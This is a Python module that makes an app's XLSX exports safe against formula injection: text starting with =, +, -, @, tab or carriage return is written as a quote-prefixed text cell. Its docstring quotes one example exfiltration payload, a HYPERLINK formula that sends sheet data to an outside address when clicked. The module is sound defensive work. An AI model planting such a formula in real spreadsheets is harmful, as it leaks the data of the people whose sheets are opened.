"""Cells of the spreadsheets the app writes (roll-ups, synthesis exports), safe to open.

Text typed by members (a comment, a name, an organization) ends up in XLSX files that an office
opens in Excel or LibreOffice. openpyxl stores a string that starts with "=" as a formula, and a
spreadsheet program may evaluate text that starts with "+", "-" or "@" as one too ("formula
injection": `=HYPERLINK("http://…?"&A1, "Xem")` sends the sheet's data away when clicked). Such
text is written as a text cell marked "quote prefix": the program shows it exactly as typed and
never evaluates it, even when the cell is edited. Nothing is added to the text.
"""

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def safe_row(sheet, values: Iterable[Any]) -> list[Any]:
    """`values` ready for `sheet.append`: formula-like text becomes a quoted text cell, every other
    value is left as it is (numbers stay numbers). Works in normal and write-only workbooks."""
    row: list[Any] = []
    for value in values:
        if is_formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            cell.quotePrefix = True
            row.append(cell)
        else:
            row.append(value)
    return row
